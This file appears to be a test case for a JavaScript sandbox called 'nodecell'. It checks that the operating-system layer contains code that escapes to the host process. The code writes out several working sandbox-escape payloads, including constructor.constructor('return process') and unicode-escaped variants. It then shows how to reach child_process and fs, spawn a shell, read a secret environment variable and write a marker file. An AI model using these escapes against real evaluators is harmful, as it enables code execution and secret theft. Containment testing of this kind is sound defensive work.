// about: safe-eval/n8n-style escapes to the real process object (this.constructor.constructor, Error.constructor, template-literal and \u0063onstructor spellings), then touch the marker, spawn a shell and read the secret env var
// expect-status: ok
// expect-result-has: {"leaked": false, "spawned": false, "wrote": false}
// control-result-has: {"got_process": true, "wrote": true}
// limits: {"timeout_ms": 8000, "memory_mib": 128}
const errc = (e) => (e && typeof e === 'object' && (e.code || e.name)) ? String(e.code || e.name) : String(e);
const I = (typeof inputs === 'object' && inputs) ? inputs : {};

// Inside nodecell the job already IS the process: these payloads are expected to reach `process`; the OS layer must contain what follows.
const routes = {
  this_constructor: () => (function () { return this; })().constructor.constructor('return process')(),
  object_literal: () => ({}).constructor.constructor('return process')(),
  error_constructor: () => Error.constructor('return process')(),
  tagged_template: () => ({})[`constructor`][`constructor`]`return process`(),
  unicode_escape: () => ({})['\u0063onstructor']['\u0063onstructor']('return this.process')(),
  arrow_bind: () => [].map.constructor.call(null, 'return process')(),
};
const out = { got_process: false, routes: {}, leaked: false, spawned: false, wrote: false, errors: {} };
let P = null;
for (const [k, f] of Object.entries(routes)) {
  try { const p = f(); out.routes[k] = !!(p && p.pid); if (p && p.pid && !P) P = p; } catch (e) { out.routes[k] = errc(e); }
}
out.got_process = !!P;
if (P) {
  try { out.leaked = Object.prototype.hasOwnProperty.call(P.env, String(I.env_secret_name)); } catch (e) { out.errors.env = errc(e); }
  const load = (n) => {
    try { const m = P.getBuiltinModule(n); if (m) return m; } catch (_) {}
    try { const m = P.mainModule.require(n); if (m) return m; } catch (_) {}
    try { if (n === 'fs') { const s = P.stdin; const y = Object.getOwnPropertySymbols(s).find((x) => x.description === 'kFs'); if (y) return s[y]; } } catch (_) {}
    return null;
  };
  const cp = load('child_process'); const fs = load('fs');
  out.child_process_available = !!cp; out.fs_available = !!fs;
  const marker = String(I.marker_path);
  try { if (marker.startsWith('/')) { cp.execFileSync('/bin/sh', ['-c', 'touch -- "$1" && id', 'sh', marker], { timeout: 2000, stdio: 'ignore' }); out.spawned = true; } }
  catch (e) { out.errors.spawn = errc(e); }
  try { if (marker.startsWith('/')) { fs.writeFileSync(marker, 'vm2-poc'); out.wrote = true; } } catch (e) { out.errors.write = errc(e); }
}
return out;
